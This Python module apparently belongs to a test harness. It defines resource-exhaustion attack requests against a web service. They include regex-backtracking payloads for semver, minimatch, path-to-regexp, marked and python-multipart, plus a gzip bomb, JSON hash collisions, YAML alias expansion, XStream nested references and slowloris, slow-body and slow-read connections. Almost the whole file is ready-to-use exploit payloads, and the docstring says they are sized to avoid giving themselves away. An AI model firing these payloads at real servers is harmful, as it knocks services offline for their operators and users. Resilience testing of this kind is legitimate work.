"""Attacks: requests whose cost grows with a size, and those that take their time. Payloads are published ones; small where the
vulnerability allows it, so that the bytes received don't give them away."""
import dataclasses
import gzip
import urllib.parse
from typing import Callable, Iterable

from exchange import Request


@dataclasses.dataclass(frozen=True)
class Attack:
    """request(size) costs the more the larger its size is; sizes are tried in ascending order."""
    name: str
    request: Callable[[int], Request]
    sizes: Iterable[int]


def ladder(first, last, factor):
    """Whole numbers, each about so many times the one before."""
    sizes, size = [], float(first)
    while size <= last:
        if not sizes or int(size) > sizes[-1]:
            sizes.append(int(size))
        size *= factor
    return tuple(sizes)


def get(path, **query):
    return Request(f"{path}?{urllib.parse.urlencode(query)}")


def post(path, body, kind="text/plain"):
    return Request(path, "POST", (("Content-Type", kind),), body.encode() if isinstance(body, str) else body)


def nested_sets(depth):
    """Two sets at each level, each in both sets of the level above, by XStream's references."""
    def level(number):
        if number == depth:
            return "<set><string>a</string></set><set/>"
        inner = level(number + 1)
        return (f"<set>{inner}<string>a</string></set>"
                '<set><set reference="../../set/set"/><set reference="../../set/set[2]"/></set>')
    return f"<set>{level(1)}</set>"


def nested_aliases(depth):
    levels = [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, depth + 1)]
    return "\n".join(["a0: &a0 [x, x]", *levels, f"? *a{depth}", ": v", ""])


SEMVER = Attack("semver", lambda size: get("/versions", range=">" + " " * size + "a"), ladder(4, 600, 1.05))
MINIMATCH = Attack("minimatch", lambda size: get("/files", pattern="*a" * 6 + "b", name="a" * size), ladder(8, 400, 1.08))
ROUTES = Attack("path-to-regexp", lambda size: Request("/trip/" + "-a" * size + "//"), ladder(20, 3_000, 1.08))
MARKED = Attack("marked", lambda size: post("/comment", "[x]: x\n\n\\[\\](\\[\\](" * size), ladder(4, 20_000, 1.15))
MULTIPART = Attack("python-multipart", lambda size: post(
    "/form", "name=value", 'application/x-www-form-urlencoded; !="' + "\\" * size), range(4, 60))
SQLPARSE = Attack("sqlparse", lambda size: post("/sql", "(" * size + ")" * size), ladder(4, 300, 1.06))
COLLISIONS = Attack("collisions", lambda size: post(
    "/cart", "{" + ",".join(f'"{i * 65_536}":0' for i in range(size)) + "}", "application/json"), ladder(40, 20_000, 1.15))
PEM = Attack("pem", lambda size: post("/certificates", "-----BEGIN A-----\n" * size), ladder(40, 30_000, 1.15))
GZIP = Attack("gzip", lambda size: post("/import", gzip.compress(bytes(size * 1024), 9), "application/gzip"),
              ladder(32, 400_000, 1.2))
YAML = Attack("snakeyaml", lambda size: post("/configuration", nested_aliases(size), "application/yaml"), range(3, 34))
XSTREAM = Attack("xstream", lambda size: post("/order", nested_sets(size), "application/xml"), range(3, 40))


def slow(kind, seconds, random):
    """Low and slow: a header, a body or the reading of an answer that takes its time."""
    if kind == "slowloris":
        fields = tuple((f"X-{number}", str(random.randrange(10**8))) for number in range(20))
        return Request("/page?n=10", headers=fields, pieces=int(seconds * random.uniform(0.7, 2)), seconds=seconds)
    if kind == "slow-body":
        body = bytes(random.randrange(97, 122) for _ in range(400))
        return dataclasses.replace(post("/upload", body), pieces=int(seconds * random.uniform(2, 5)), seconds=seconds)
    # More than the server's side of the connection takes at once; it is closed when the time is up.
    return Request("/download?n=12000000", read_bytes=2048, read_pause_s=0.1, gives_up_after_s=seconds)


SLOW_KINDS = ("slowloris", "slow-body", "slow-read")
